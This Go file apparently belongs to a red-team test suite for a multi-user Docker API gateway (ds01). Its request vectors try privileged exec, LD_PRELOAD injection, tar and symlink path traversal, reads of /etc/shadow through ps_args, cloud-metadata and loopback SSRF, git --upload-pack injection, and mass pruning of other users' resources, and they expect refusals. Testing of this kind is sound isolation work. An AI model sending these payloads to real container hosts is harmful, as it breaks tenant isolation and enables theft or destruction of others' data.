package redteam

import "strings"

// a reference is a way to write another's container.
type reference struct{ id, says, text string }

// references lists the ways to write another's container.
func references() []reference {
	return []reference{
		{"id", "by its id", "{victim}"},
		{"short", "by its short id", "{victimshort}"},
		{"prefix", "by the beginning of its id", "{victimprefix}"},
		{"name", "by its name", "{victimname}"},
		{"engine", "by its name at the engine", "{victimengine}"},
	}
}

func execVectors() []Vector {
	own := func(fields string) Step {
		return Step{Method: "POST", Path: "/containers/{own}/exec", Body: `{"AttachStdout":true,"AttachStderr":true,"Cmd":["sh","-c","{payload}"]` + fields + `}`, Status: either(), Save: true}
	}
	runs := func(id, says, fields string, topics ...int) Vector {
		return several("exec-"+id, says, []Step{
			own(fields), begin("{made}", `{"Detach":false,"Tty":false}`, either()),
		}, append(topics, 71)...)
	}
	all := []Vector{
		runs("privileged", "a privileged command", `,"Privileged":true`, 26),
		runs("privileged-case", "a privileged command in another case", `,"privileged":true`, 1),
		runs("user-root", "a command as root", `,"User":"0"`, 60),
		runs("user-victim", "a command as another", `,"User":"{victimuid}"`, 60),
		runs("workdir", "a command in a leaked descriptor", `,"WorkingDir":"/proc/self/fd/8"`, 64),
		runs("workdir-climb", "a command in a descriptor by climbing", `,"WorkingDir":"/etc/../proc/self/fd/7"`, 64),
		runs("env", "a command with the variable for all GPUs", `,"Env":["NVIDIA_VISIBLE_DEVICES=all","LD_PRELOAD=/evil.so"]`, 38, 41),
		runs("container", "a command that names another's container", `,"Container":"{victim}"`, 28),
		runs("unknown", "a command with an unknown key", `,"CapAdd":["ALL"],"HostConfig":{"Privileged":true}`, 28),
		one("exec-start-config", "a start of a command with a configuration", begin("{victimexec}", `{"Detach":true,"Privileged":true}`, refused()), 71),
	}
	for _, c := range []struct{ id, method, path, body string }{
		{"start", "POST", "/exec/{victimexec}/start", `{"Detach":false}`},
		{"start-detached", "POST", "/exec/{victimexec}/start", `{"Detach":true}`},
		{"start-short", "POST", "/exec/{victimexecshort}/start", `{"Detach":true}`},
		{"resize", "POST", "/exec/{victimexec}/resize?h=1&w=1", ""},
		{"json", "GET", "/exec/{victimexec}/json", ""},
	} {
		all = append(all, one("exec-victim-"+c.id, "another's command: "+c.id, Step{Method: c.method, Path: c.path, Body: c.body, Status: gone(), Stays: true}, 71))
	}
	for _, r := range references() {
		asked := post("/containers/"+r.text+"/exec", `{"AttachStdout":true,"Cmd":["touch","/reached"]}`, gone())
		asked.Save = true
		all = append(all, several("exec-in-victim-"+r.id, "a command in another's container "+r.says,
			[]Step{asked, begin("{made}", `{"Detach":false}`, gone())}, 71, 87))
	}
	return all
}

// foreignVectors ask everything of another's container, by each way to write
// it.
func foreignVectors() []Vector {
	var all []Vector
	for _, c := range []struct {
		id, says, method, path, body string
		status                       []int
		topics                       []int
	}{
		{"json", "a look at", "GET", "/json?size=1", "", gone(), on(73)},
		{"logs", "the logs of", "GET", "/logs?stdout=1&stderr=1&follow=0", "", gone(), on(73)},
		{"top", "the processes of", "GET", "/top", "", gone(), on(73)},
		{"stats", "the figures of", "GET", "/stats?stream=0", "", gone(), on(73)},
		{"changes", "the changes in", "GET", "/changes", "", foreign(), on(73)},
		{"export", "all files of", "GET", "/export", "", foreign(), on(73)},
		{"archive", "a file of", "GET", "/archive?path=/secret", "", foreign(), on(72, 73)},
		{"attach", "the streams of", "POST", "/attach?logs=1&stream=1&stdout=1&stdin=1", "", gone(), on(85)},
		{"kill", "a signal to", "POST", "/kill?signal=KILL", "", gone(), on(85)},
		{"stop", "a stop of", "POST", "/stop?t=0", "", gone(), on(85)},
		{"restart", "a restart of", "POST", "/restart?t=0", "", gone(), on(85)},
		{"pause", "a pause of", "POST", "/pause", "", foreign(), on(85)},
		{"unpause", "an end of a pause of", "POST", "/unpause", "", foreign(), on(85)},
		{"wait", "the end of", "POST", "/wait", "", gone(), on(85)},
		{"resize", "the terminal of", "POST", "/resize?h=1&w=1", "", gone(), on(85)},
		{"update", "the limits of", "POST", "/update", `{"Memory":16777216}`, foreign(), on(68, 85)},
		{"remove", "the removal of", "DELETE", "?force=1&v=1", "", gone(), on(76, 85)},
		{"archive-head", "a file's state in", "HEAD", "/archive?path=/secret", "", foreign(), on(73)},
		{"archive-put", "files into", "PUT", "/archive?path=/", "", foreign(), on(72)},
		{"copy", "files by the old route from", "POST", "/copy", `{"Resource":"/secret"}`, foreign(), on(73)},
	} {
		message := "ds01: "
		if c.method == "HEAD" {
			message = "" // it has no body
		}
		for _, r := range references() {
			all = append(all, one("foreign-"+c.id+"-"+r.id, c.says+" another's container "+r.says,
				Step{Method: c.method, Path: "/containers/" + r.text + c.path, Body: c.body, Status: c.status, Message: message}, append(c.topics, 87)...))
		}
	}
	return append(all,
		one("foreign-start", "a start of another's container", post("/containers/{stopped}/start", "", gone()), 69, 85),
		one("foreign-logs-follow", "the logs of another's container as they come", get("/containers/{victim}/logs?stdout=1&follow=1&since=0&details=1&tail=all", gone()), 73),
		one("foreign-link", "a link of another's container removed", remove("/containers/{victim}?link=1", append([]int{400}, gone()...)), 76),
		one("foreign-empty", "a container without a name", get("/containers//json", refused()), 87),
		one("foreign-one-letter", "a container by one letter", remove("/containers/{victimletter}?force=1", append([]int{409}, gone()...)), 87),
		one("foreign-upper", "another's container in capitals", get("/containers/{victimupper}/json", gone()), 87),
		one("foreign-slash-name", "another's container with its slash", get("/containers/sha256:{victim}/json", refused()), 87),
		one("foreign-signal-odd", "an odd signal to one's own container's parent", post("/containers/{own}/kill?signal=-1", "", append([]int{500}, either()...)), 85),
		one("foreign-top-args", "arguments that ps takes for others", get("/containers/{own}/top?ps_args=-ef%20--pid%201", append([]int{500}, either()...)), 73),
		one("foreign-top-file", "arguments that ps takes for a file", get("/containers/{own}/top?ps_args=-eo%20args%20%23%20/etc/shadow", append([]int{500}, either()...)), 73),
		one("foreign-top-all", "the environment of every process", get("/containers/{own}/top?ps_args=axewwo%20pid,args", append([]int{500}, either()...)), 73),
	)
}

func archiveVectors() []Vector {
	put := func(id, says, query, text string, headers []string) Vector {
		return one("archive-"+id, says, Step{
			Method: "PUT", Path: "/containers/{own}/archive?" + query, Headers: append([]string{"Content-Type: application/x-tar"}, headers...),
			Body: text, Status: append([]int{500}, either()...),
		}, 72)
	}
	inVolume := func(id, says string, steps ...Step) Vector {
		made := Step{Method: "POST", Path: "/containers/create?name={mark}-x", Body: body(`"Volumes":{"/v":{}}`), Status: either(), Save: true}
		return several("archive-volume-"+id, says, append([]Step{made}, steps...), 48, 72)
	}
	putIn := func(query, text string) Step {
		return Step{Method: "PUT", Path: "/containers/{made}/archive?" + query, Headers: []string{"Content-Type: application/x-tar"}, Body: text, Status: append([]int{500}, either()...)}
	}
	return []Vector{
		inVolume("link", "a link to the host in a volume, and files through it", putIn("path=/v", "{tarlink}"), putIn("path=/v/d", "{tarsetuid}"), get("/containers/{made}/archive?path=/v/d/secret", append([]int{500}, either()...))),
		inVolume("climb", "files that climb out of a volume", putIn("path=/v", "{tarclimb}"), putIn("path=/v/../../../../{canary}", "{tarsetuid}"), get("/containers/{made}/archive?path=/v/../../../../{canary}/secret", append([]int{500}, either()...))),
		inVolume("device", "a device node in a volume", putIn("path=/v", "{tardevice}")),
		put("climb", "a file that climbs out", "path=/", "{tarclimb}", nil),
		put("link", "a link to the host and a file through it", "path=/", "{tarlink}", nil),
		put("setuid", "a setuid file of root's into one's own folder", "path=/w", "{tarsetuid}", nil),
		put("device", "a device node", "path=/", "{tardevice}", nil),
		put("gzip", "files that are compressed", "path=/", "\x1f\x8b\x08\x00garbage", []string{"Content-Encoding: gzip"}),
		put("xz", "files that a program of the container would decompress", "path=/", "\xfd7zXZ\x00garbage", nil),
		put("zstd", "files that another program would decompress", "path=/", "\x28\xb5\x2f\xfdgarbage", nil),
		put("proc", "a file into /proc", "path=/proc/1/root{canary}", "{tarclimb}", nil),
		put("path-climb", "a path that climbs out", "path=../../../..{canary}", "{tarclimb}", nil),
		one("archive-get-proc", "files through /proc", get("/containers/{own}/archive?path=/proc/1/root{canary}/secret", append([]int{500}, either()...)), 72, 73),
		one("archive-get-climb", "files by climbing", get("/containers/{own}/archive?path=/../../../../{canary}/secret", append([]int{500}, either()...)), 72, 73),
		several("archive-get-link", "files through a link made in the container", []Step{
			{Method: "POST", Path: "/containers/{own}/exec", Body: `{"Cmd":["ln","-sfn","/../../../../../{canary}","/link"]}`, Status: []int{201}, Save: true},
			begin("{made}", `{"Detach":false}`, either()),
			get("/containers/{own}/archive?path=/link/secret", append([]int{500}, either()...)),
		}, 72, 73),
		one("archive-copy-flags", "files with owners kept", Step{Method: "PUT", Path: "/containers/{own}/archive?path=/w&copyUIDGID=1&noOverwriteDirNonDir=0", Headers: []string{"Content-Type: application/x-tar"}, Body: "{tarsetuid}", Status: append([]int{500}, either()...)}, 72),
	}
}

func imageVectors() []Vector {
	auth := "X-Registry-Auth: e30="
	return append([]Vector{
		one("image-commit-victim", "another's container as an image", post("/commit?container={victim}&repo={mark}-commit", "", either()), 74),
		one("image-commit-changes", "one's own container with changes", post("/commit?container={own}&repo={mark}-commit&changes=ENV%20LD_PRELOAD%3D/x", "", either()), 74),
		one("image-commit-shared", "one's own container under a shared name", post("/commit?container={own}&repo={sharedrepo}&tag={sharedtag}", "", either()), 74, 75),
		one("image-commit-config", "one's own container with a configuration", post("/commit?container={own}&repo={mark}-commit", `{"Labels":{"aime.mlc.DS01_UID":"{victimuid}"},"HostConfig":{"Privileged":true}}`, either()), 74, 61),
		one("image-commit-health", "an image that the engine checks each nanosecond", post("/commit?container={own}&repo={mark}-commit", `{"Healthcheck":{"Test":["CMD","true"],"Interval":1}}`, refused()), 74, 63),
		one("image-get-victim", "another's image taken away", get("/images/{victimimage}/get", foreign()), 74, 66),
		one("image-get-many", "another's image among many", get("/images/get?names={victimimage}", foreign()), 74),
		one("image-get-case", "another's image in capitals", get("/images/get?NAMES={victimimage}", refused()), 74),
		one("image-history-victim", "the history of another's image", get("/images/{victimimage}/history", foreign()), 74, 66),
		one("image-look-victim", "a look at another's image", get("/images/{victimimage}/json", gone()), 66),
		one("image-look-victim-id", "a look at another's image by its id", get("/images/{victimimageid}/json", gone()), 66),
		one("image-look-victim-prefix", "a look at another's image by the beginning of its id", get("/images/{victimimageprefix}/json", gone()), 66, 87),
		one("image-look-victim-sha", "a look at another's image by its digest", get("/images/sha256:{victimimageid}/json", gone()), 66),
		one("image-run-victim", "a container of another's image", create(`{"Image":"{victimimage}","Cmd":["cat","/secret"],"Labels":{"{mark}":"1"}}`, append([]int{403}, gone()...)), 66),
		one("image-run-victim-id", "a container of another's image by its id", create(`{"Image":"{victimimageid}","Cmd":["cat","/secret"],"Labels":{"{mark}":"1"}}`, append([]int{403}, gone()...)), 66),
		one("image-run-victim-prefix", "a container of another's image by the beginning of its id", create(`{"Image":"{victimimageprefix}","Cmd":["cat","/secret"],"Labels":{"{mark}":"1"}}`, append([]int{403}, gone()...)), 66, 87),
		one("image-run-path", "a container of an image that is a path", create(`{"Image":"../../{canary}","Labels":{"{mark}":"1"}}`, append([]int{500}, refused()...)), 66),
		one("image-list", "the list of images", get("/images/json?all=1", []int{200}), 84, 66),
		one("image-list-filter", "another's image by a filter", get("/images/json?filters=%7B%22reference%22%3A%5B%22{victimrepo}%22%5D%7D", []int{200, 400, 403}), 84, 66),
		one("image-tag-shared", "an image under a shared name", post("/images/{image}/tag?repo={sharedrepo}&tag={sharedtag}", "", either()), 75),
		one("image-tag-victim", "an image under another's name", post("/images/{image}/tag?repo={victimrepo}&tag=latest", "", either()), 75),
		one("image-tag-mark", "an image under a mark of another's", post("/images/{image}/tag?repo=ds01-{victimuid}/ds01-nameless&tag=0-0", "", either()), 75),
		one("image-commit-mark", "one's own container under a mark of another's", post("/commit?container={own}&repo=ds01-{victimuid}/ds01-nameless&tag=0-0", "", either()), 74, 75),
		one("image-tag-from-victim", "another's image under one's own name", post("/images/{victimimage}/tag?repo={mark}-mine", "", foreign()), 66, 75),
		one("image-import", "an image from another host", post("/images/create?fromSrc=http://{trap}/x.tar&repo={sharedrepo}", "", refused()), 75, 77),
		one("image-import-body", "an image from the request", Step{Method: "POST", Path: "/images/create?fromSrc=-&repo={sharedrepo}&tag={sharedtag}", Body: "{tarclimb}", Headers: []string{"Content-Type: application/x-tar"}, Status: append([]int{500}, either()...)}, 75),
		one("image-import-metadata", "an image from the cloud's metadata", post("/images/create?fromSrc=http://169.254.169.254/latest/meta-data", "", refused()), 77),
		one("image-pull-scheme", "a pull by a scheme", post("/images/create?fromImage=http://169.254.169.254/x", "", append([]int{500}, either()...)), 77),
		one("image-pull-loopback", "a pull from a port of the host", post("/images/create?fromImage=127.0.0.1:1/x&tag=y", "", append([]int{500}, either()...)).with(auth), 77),
		one("image-pull-personal", "a pull of another's name", post("/images/create?fromImage={victimrepo}&tag=latest", "", append([]int{500}, either()...)), 75, 77),
		one("image-pull-personal-hub", "a pull of another's name by its long name", post("/images/create?fromImage=docker.io/{victimrepo}", "", append([]int{500}, either()...)), 75, 77),
		one("image-pull-changes", "a pull with changes", post("/images/create?fromImage={mark}.invalid/x&changes=USER%20root", "", append([]int{500}, either()...)), 77),
		one("image-load", "images that overwrite shared names", Step{Method: "POST", Path: "/images/load?quiet=1", Body: "{tarload}", Headers: []string{"Content-Type: application/x-tar"}, Status: append([]int{500}, either()...)}, 74, 75),
		one("image-load-climb", "images that climb out", Step{Method: "POST", Path: "/images/load", Body: "{tarclimb}", Headers: []string{"Content-Type: application/x-tar"}, Status: append([]int{500}, either()...)}, 74),
		one("image-push-victim", "another's image pushed elsewhere", post("/images/{victimimage}/push?tag=latest", "", append([]int{400}, foreign()...)).with(auth), 74),
		one("image-delete-victim", "another's image deleted", remove("/images/{victimimage}?force=1", foreign()), 76),
		one("image-delete-shared", "a shared image deleted", remove("/images/{shared}?force=1", either()), 76),
		one("image-distribution", "a registry asked through the engine", get("/distribution/127.0.0.1:1/x/json", append([]int{500}, either()...)), 77),
		one("image-search", "a registry searched", get("/images/search?term={mark}&limit=1", append([]int{500}, either()...)), 77),
		one("image-auth", "credentials sent to a port of the host", post("/auth", `{"username":"x","password":"y","serveraddress":"http://127.0.0.1:1/"}`, append([]int{500}, either()...)), 77),
		one("prune-containers-marked", "others' stopped containers pruned, by label", post("/containers/prune?filters=%7B%22label%22%3A%5B%22{victimmark}%22%5D%7D", "", either()), 76),
		one("prune-images-marked", "others' images pruned, by label", post("/images/prune?filters=%7B%22label%22%3A%5B%22{victimmark}%22%5D%2C%22dangling%22%3A%5B%22false%22%5D%7D", "", either()), 76),
		one("prune-volumes-marked", "others' volumes pruned, by label", post("/volumes/prune?filters=%7B%22label%22%3A%5B%22{victimmark}%22%5D%2C%22all%22%3A%5B%22true%22%5D%7D", "", either()), 76),
		one("prune-networks-marked", "others' networks pruned, by label", post("/networks/prune?filters=%7B%22label%22%3A%5B%22{victimmark}%22%5D%7D", "", either()), 76),
		one("system-df", "what everybody's things take on disk", get("/system/df", either()), 76, 84),
	}, inLab("a broken gateway would prune what others have",
		one("prune-containers", "all stopped containers pruned", post("/containers/prune", "", either()), 76),
		one("prune-containers-not", "containers pruned by what they are not", post("/containers/prune?filters=%7B%22label%21%22%3A%5B%22x%22%5D%7D", "", either()), 76),
		one("prune-images", "all images pruned", post("/images/prune?filters=%7B%22dangling%22%3A%7B%22false%22%3Atrue%7D%7D", "", either()), 76),
		one("prune-volumes", "all volumes pruned", post("/volumes/prune", "", either()), 76),
		one("prune-networks", "all networks pruned", post("/networks/prune", "", either()), 76),
		one("prune-networks-until", "all networks pruned, by their age", post("/networks/prune?filters=%7B%22until%22%3A%5B%220s%22%5D%2C%22label%21%22%3A%5B%22x%22%5D%7D", "", either()), 76),
		one("prune-builds", "the cache of builds pruned", post("/build/prune?all=1", "", either()), 76),
	)...)
}

func buildVectors() []Vector {
	build := func(id, says, query string, topics ...int) Vector {
		return one("build-"+id, says, Step{
			Method: "POST", Path: "/build?" + named(query), Headers: []string{"Content-Type: application/x-tar"},
			Body: "{tarbuild}", Status: append([]int{500}, either()...), Stays: true,
		}, append(topics, 78)...)
	}
	by := func(id, says, archive string, topics ...int) Vector {
		return one("build-"+id, says, Step{
			Method: "POST", Path: "/build?t={mark}-b", Headers: []string{"Content-Type: application/x-tar"}, Body: archive, Status: append([]int{500}, either()...), Stays: true,
		}, append(topics, 78)...)
	}
	return []Vector{
		by("from-victim", "a build on another's image", "{buildfrom}", 66),
		by("from-victim-id", "a build on another's image by its id, in a variable", "{buildfromid}", 66),
		by("copy-victim", "files of another's image in a build", "{buildcopy}", 66),
		by("copy-victim-id", "files of another's image in a build, by its id", "{buildcopyid}", 66),
		by("add", "a build that fetches from a port of the host", "{buildadd}", 77),
		by("add-variable", "a build that fetches from a port of the host, by a variable", "{buildaddvar}", 77),
		by("trigger", "files of another's image in a build, by a trigger", "{buildtrigger}", 66),
		by("heredoc", "a build on another's image in a here-document", "{buildheredoc}", 1, 66),
		by("escape", "a build on another's image after two escapes", "{buildescape}", 1, 66),
		by("workdir", "a build in a leaked descriptor", "{buildworkdir}", 64),
		by("link", "a context with a link to the host", "{buildlink}"),
		by("climb", "a recipe that copies from outside", "{buildclimb}"),
		by("in-place", "a file in the place of the recipe", "{buildinplace}", 66),
		by("behind-link", "a file in the place of the recipe, behind a link", "{buildbehind}", 66),
		by("device", "a device node in a context", "{builddevice}"),
		by("lowercase", "two recipes, one in small letters", "{buildlowercase}", 66),
		build("network-name", "a build in another's network, by its name", "networkmode={victimnetwork}"),
		build("squash", "a build that is squashed", "squash=1"),
		build("twice", "a build with two recipes", "dockerfile=Dockerfile&dockerfile=/etc/passwd", 1),
		build("plain", "a build that looks around", "rm=1"),
		build("network", "a build in the host's network", "networkmode=host"),
		build("network-victim", "a build in another's network", "networkmode=container:{victim}"),
		build("cgroup", "a build in a group of one's choice", "cgroupparent=/"),
		build("memory", "a build without limits", "memory=-1&memswap=-1&cpuquota=-1"),
		build("security", "a build without a filter of system calls", "securityopt=seccomp%3Dunconfined"),
		build("ulimits", "a build with unlimited files", "ulimits=%5B%7B%22Name%22%3A%22nofile%22%2C%22Hard%22%3A-1%7D%5D&shmsize=1099511627776"),
		build("hosts", "a build with false hosts", "extrahosts=github.com%3A127.0.0.1"),
		build("outputs", "a build that writes to the host", "outputs=%5B%7B%22type%22%3A%22local%22%2C%22attrs%22%3A%7B%22dest%22%3A%22{canary}%22%7D%7D%5D"),
		build("dockerfile", "a recipe that climbs out", "dockerfile=../../../..{canary}/secret"),
		build("cache-victim", "a build from another's image as a cache", "cachefrom=%5B%22{victimimage}%22%5D"),
		build("shared", "a build under a shared name", "t={shared}", 75),
		build("victim-name", "a build under another's name", "t={victimimage}", 75),
		build("label", "a build labelled as another's", "labels=%7B%22aime.mlc.DS01_UID%22%3A%22{victimuid}%22%7D", 61),
		build("remote", "a build from a port of the host", "remote=http://{trap}/x", 77),
		build("remote-git", "a build from an odd repository", "remote=git://{trap}/x.git%23--upload-pack%3Dx", 77),
		build("remote-file", "a build from a folder of the host", "remote=file://{canary}"),
		build("buildkit", "a build by BuildKit with entitlements", "version=2&session={mark}&buildid={mark}&entitlements=network.host", 79),
		build("secret", "a build that asks a session for secrets", "version=2&session={mark}", 79),
		build("kit-nobody", "a build by BuildKit of nobody's session", "version=2&remote=client-session&session={mark}", 79),
		build("kit-network", "a build by BuildKit in the host's network", "version=2&remote=client-session&session={mark}&networkmode=host", 79),
		build("kit-cgroup", "a build by BuildKit in a group of one's choice", "version=2&remote=client-session&session={mark}&cgroupparent=/", 79),
		build("kit-outputs", "a build by BuildKit that writes to the host", "version=2&remote=client-session&session={mark}&outputs=%5B%7B%22Type%22%3A%22local%22%2C%22Attrs%22%3A%7B%22dest%22%3A%22{canary}%22%7D%7D%5D", 79),
		build("kit-remote", "a build by BuildKit from a port of the host", "version=2&session={mark}&remote=http://{trap}/x", 77, 79),
		build("kit-syntax", "a build by BuildKit with a frontend of one's choice", "version=2&remote=client-session&session={mark}&buildargs=%7B%22BUILDKIT_SYNTAX%22%3A%22evil%22%7D", 79),
		build("kit-shared", "a build by BuildKit under a shared name", "version=2&remote=client-session&session={mark}&t={shared}", 75, 79),
		one("build-cancel", "another's build cancelled", post("/build/cancel?id={mark}", "", append([]int{500}, either()...)), 78),
	}
}

// named gives a build a name of its own unless the query has one.
func named(query string) string {
	if strings.HasPrefix(query, "t=") {
		return query
	}
	return "t={mark}-b&" + query
}
